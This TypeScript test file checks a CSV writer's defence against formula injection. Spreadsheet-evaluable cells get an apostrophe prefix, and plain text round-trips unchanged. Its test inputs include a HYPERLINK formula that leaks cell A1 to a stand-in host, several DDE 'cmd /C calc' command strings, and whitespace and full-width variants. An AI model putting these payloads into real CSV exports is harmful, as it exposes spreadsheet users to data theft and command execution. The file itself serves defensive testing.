import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvLine, plainCell } from "./csv";

describe("a cell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "'"],
    ["=cmd|' /C calc'!A0", "'"],
    ["+1+cmd|' /C calc'!A0", "'"],
    ["-2+3+cmd|' /C calc'!A0", "'"],
    ["@SUM(1+9)*cmd", "'"],
    ["\t=1+1", "'"],
    ["\r=1+1", "'"],
    ["\n=1+1", "'"],
    ["  =1+1", "'"],
    ["＝1+1", "'"],
    ["\u00a0=1", "'"],
    ["+49 30", "'"],
  ])("that a spreadsheet would calculate, %j, is text there", (text, sign) => {
    const [[cell]] = parse(csvLine([text])) as [[string]];
    expect(cell).toBe(`${sign}${text}`);
  });

  it.each(["Ann's book", "-12.5", "42", "a=b", "1984", "", 'He said "no", twice\nand left', "Émile; Zola"])(
    "that is none, %j, comes out as it went in",
    (text) => {
      const rows = parse(csvLine(["x", text])) as [[string, string]];
      expect(rows).toEqual([["x", text]]);
    },
  );

  it.each(["=1", "'=1", "''= 1", "-2+3", "'-5", "-5", "' @home", "@home", "'tis", "''", "'", "+49 30", "＝1", "'\t=1"])(
    "%j is the same again when it comes back, with its own apostrophes",
    (text) => {
      const [[cell]] = parse(csvLine([text])) as [[string]];
      expect(plainCell(cell)).toBe(text);
    },
  );

  it("says moments, truth and what has parts as a program reads them", () => {
    expect([csvCell(-5), csvCell(true)]).toEqual(["-5", "true"]);
    expect(csvCell(new Date("2026-01-02T03:04:05.678Z"))).toBe("2026-01-02T03:04:05.678Z");
    expect(parse(csvLine([["a", "b"]]))).toEqual([['["a","b"]']]);
  });

  it("is empty for what is not there", () => expect([csvCell(null), csvCell(undefined)]).toEqual(["", ""]));
});
